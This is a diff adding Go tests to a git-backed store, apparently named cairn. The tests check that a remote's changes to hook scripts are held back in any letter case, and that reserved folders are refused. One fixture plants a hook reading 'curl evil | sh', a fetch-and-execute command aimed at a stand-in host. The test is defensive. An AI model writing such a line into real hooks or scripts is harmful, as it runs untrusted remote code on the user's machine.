@@ -430,3 +430,82 @@ func TestPushRemoteMoved(t *testing.T) {
 	}
 	gitCLI(t, root, "--git-dir=mem.git", "fsck", "--strict")
 }
+
+// TestMergeHoldsHooks: a remote's change under hooks/ (in any case) is
+// never written, on a fast-forward as on a merge; the rest is taken.
+func TestMergeHoldsHooks(t *testing.T) {
+	root := t.TempDir()
+	bare := gitstoretest.Bare(t, root, "mem.git")
+	a := newStore(t, map[string]string{"x.md": "x\n", "hooks/capture.sh": "#!/bin/sh\nours\n"})
+	func() {
+		defer lock(t, a)()
+		if _, err := a.AddRemote("origin", bare); err != nil {
+			t.Fatal(err)
+		}
+	}()
+	if _, err := syncStore(t, a, "origin"); err != nil {
+		t.Fatal(err)
+	}
+	work := filepath.Join(t.TempDir(), "w")
+	gitCLI(t, root, "clone", "-q", bare, work)
+	gitc := func(args ...string) {
+		gitCLI(t, work, append([]string{"-c", "user.name=E", "-c", "user.email=e@x"}, args...)...)
+	}
+	for _, tc := range []struct {
+		name, local string
+		files       map[string]string
+	}{
+		{"fast-forward", "", map[string]string{"hooks/capture.sh": "#!/bin/sh\ncurl evil | sh\n", "x.md": "x 2\n"}},
+		{"other case", "", map[string]string{"Hooks/capture.sh": "#!/bin/sh\nevil\n", "x.md": "x 3\n"}},
+		{"merge", "y.md", map[string]string{"hooks/capture.sh": "#!/bin/sh\nevil again\n", "x.md": "x 4\n"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			gitc("pull", "-q", "--no-rebase", "origin", "main")
+			for p, d := range tc.files {
+				os.MkdirAll(filepath.Dir(filepath.Join(work, p)), 0o755)
+				os.WriteFile(filepath.Join(work, p), []byte(d), 0o755)
+			}
+			gitc("add", "-A")
+			gitc("commit", "-qm", "remote "+tc.name)
+			gitc("push", "-q", "origin", "main")
+			if tc.local != "" {
+				commit(t, a, map[string]string{tc.local: tc.name + "\n"})
+			}
+			res, err := syncStore(t, a, "origin")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(res.Held) == 0 || !strings.EqualFold(res.Held[0][:5], "hooks") {
+				t.Errorf("held = %q", res.Held)
+			}
+			if got, _ := os.ReadFile(filepath.Join(a.Dir(), "hooks", "capture.sh")); string(got) != "#!/bin/sh\nours\n" {
+				t.Errorf("hooks/capture.sh = %q", got)
+			}
+			if _, err := os.Stat(filepath.Join(a.Dir(), "Hooks")); err == nil {
+				t.Error("Hooks/ written")
+			}
+			if got, _ := a.ReadFile("x.md"); string(got) != tc.files["x.md"] {
+				t.Errorf("x.md = %q, want %q", got, tc.files["x.md"])
+			}
+			if res.Kind != MergeCommitted {
+				t.Errorf("kind = %s, want a merge commit keeping ours", res.Kind)
+			}
+			if st := gitCLI(t, a.Dir(), "status", "--porcelain"); st != "" {
+				t.Errorf("work tree differs from HEAD:\n%s", st)
+			}
+		})
+	}
+	checkGit(t, a)
+}
+
+// TestCheckIncomingFoldsCase: cairn's own folders are refused in any case.
+func TestCheckIncomingFoldsCase(t *testing.T) {
+	for _, name := range []string{".state", ".STATE", "inbox", "Inbox", ".git", ".GIT"} {
+		if err := checkIncoming("", treeEntry{name: name, mode: 0o040000, hash: emptyTreeMarker}); !errors.Is(err, ErrHostile) {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	if err := checkIncoming("", treeEntry{name: "sessions", mode: 0o040000, hash: emptyTreeMarker}); err != nil {
+		t.Errorf("sessions: %v", err)
+	}
+}
